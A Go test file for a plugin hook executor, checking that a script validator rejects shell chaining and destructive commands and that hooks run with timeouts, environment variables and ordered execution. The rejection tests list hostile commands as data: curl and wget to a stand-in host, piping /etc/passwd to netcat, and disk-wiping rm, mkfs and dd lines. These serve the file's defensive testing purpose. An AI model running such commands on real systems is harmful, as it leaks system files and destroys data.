package hooks

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/naap-platform/naap-runtime/internal/db/models"
)

func TestValidateScript_RejectsShellOperators(t *testing.T) {
	bad := []string{
		"echo hi; rm cache",
		"true && curl evil.example.com",
		"false || wget evil.example.com",
		"cat /etc/passwd | nc host 1234",
		"echo `id`",
		"echo $(id)",
	}
	for _, script := range bad {
		if err := ValidateScript(script); !errors.Is(err, ErrScriptRejected) {
			t.Errorf("ValidateScript(%q) = %v, want ErrScriptRejected", script, err)
		}
	}

	if err := ValidateScript("node scripts/migrate.js --env production"); err != nil {
		t.Errorf("ValidateScript(clean) = %v, want nil", err)
	}
}

func TestValidateScript_RejectsDestructivePatterns(t *testing.T) {
	bad := []string{
		"rm -rf /",
		"rm -fr /",
		"rm -rf /*",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
	}
	for _, script := range bad {
		if err := ValidateScript(script); !errors.Is(err, ErrScriptRejected) {
			t.Errorf("ValidateScript(%q) = %v, want ErrScriptRejected", script, err)
		}
	}

	// Scoped deletion is a legitimate cleanup step.
	allowed := []string{
		"rm -rf /tmp/build-cache",
		"rm -f .lockfile",
	}
	for _, script := range allowed {
		if err := ValidateScript(script); err != nil {
			t.Errorf("ValidateScript(%q) = %v, want nil", script, err)
		}
	}
}

func TestExecute_Success(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	res, err := e.Execute(context.Background(), "crm", models.HookPostInstall, models.Hook{
		Script: "echo provisioned",
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != 0 {
		t.Errorf("ExitCode = %d, want 0", res.ExitCode)
	}
	if !strings.Contains(res.Stdout, "provisioned") {
		t.Errorf("Stdout = %q", res.Stdout)
	}
}

func TestExecute_NonZeroExit(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	res, err := e.Execute(context.Background(), "crm", models.HookPreUpdate, models.Hook{
		Script: "false",
	})
	if err == nil {
		t.Fatal("expected error for failing hook")
	}
	if res == nil || res.ExitCode == 0 {
		t.Errorf("result = %+v, want non-zero exit", res)
	}
}

func TestExecute_RejectedScriptNeverRuns(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	res, err := e.Execute(context.Background(), "crm", models.HookPostInstall, models.Hook{
		Script: "echo ok; echo chained",
	})
	if !errors.Is(err, ErrScriptRejected) {
		t.Errorf("error = %v, want ErrScriptRejected", err)
	}
	if res != nil {
		t.Errorf("result = %+v, want nil", res)
	}
}

func TestExecute_Timeout(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	res, err := e.Execute(context.Background(), "crm", models.HookPostInstall, models.Hook{
		Script:         "sleep 30",
		TimeoutSeconds: 1,
	})
	if err == nil {
		t.Fatal("expected timeout error")
	}
	if res == nil || !res.TimedOut {
		t.Errorf("result = %+v, want TimedOut", res)
	}
}

func TestExecute_EnvInjection(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	res, err := e.Execute(context.Background(), "crm", models.HookPostInstall, models.Hook{
		Script: "printenv PLUGIN_SLOT",
		Env:    map[string]string{"PLUGIN_SLOT": "green"},
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if !strings.Contains(res.Stdout, "green") {
		t.Errorf("Stdout = %q, want to contain %q", res.Stdout, "green")
	}
}

func TestExecute_PassesIdentity(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	res, err := e.Execute(context.Background(), "crm", models.HookPostInstall, models.Hook{
		Script: "env",
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if !strings.Contains(res.Stdout, "PLUGIN_NAME=crm") {
		t.Errorf("Stdout missing PLUGIN_NAME: %q", res.Stdout)
	}
	if !strings.Contains(res.Stdout, "HOOK_ACTION="+models.HookPostInstall) {
		t.Errorf("Stdout missing HOOK_ACTION: %q", res.Stdout)
	}
}

func TestExecuteSequentially_StopsAtFirstFailure(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	hooks := map[string]models.Hook{
		models.HookPreUpdate:  {Script: "false"},
		models.HookPostUpdate: {Script: "echo after"},
	}
	results, err := e.ExecuteSequentially(context.Background(), "crm",
		[]string{models.HookPreUpdate, models.HookPostUpdate}, hooks, false)
	if err == nil {
		t.Fatal("expected error from first hook")
	}
	if len(results) != 1 {
		t.Errorf("len(results) = %d, want 1", len(results))
	}
}

func TestExecuteSequentially_ContinueOnError(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	hooks := map[string]models.Hook{
		models.HookPreUpdate:  {Script: "false"},
		models.HookPostUpdate: {Script: "echo after"},
	}
	results, err := e.ExecuteSequentially(context.Background(), "crm",
		[]string{models.HookPreUpdate, models.HookPostUpdate}, hooks, true)
	if err == nil {
		t.Fatal("expected the first hook's failure to be reported")
	}
	if len(results) != 2 {
		t.Fatalf("len(results) = %d, want 2 (later hooks still run)", len(results))
	}
	if !strings.Contains(results[1].Stdout, "after") {
		t.Errorf("second hook stdout = %q", results[1].Stdout)
	}
}

func TestExecuteSequentially_SkipsUndeclared(t *testing.T) {
	e := NewExecutor(t.TempDir(), time.Minute)

	hooks := map[string]models.Hook{
		models.HookPostUpdate: {Script: "echo only"},
	}
	results, err := e.ExecuteSequentially(context.Background(), "crm",
		[]string{models.HookPreUpdate, models.HookPostUpdate}, hooks, false)
	if err != nil {
		t.Fatalf("ExecuteSequentially: %v", err)
	}
	if len(results) != 1 {
		t.Errorf("len(results) = %d, want 1", len(results))
	}
}
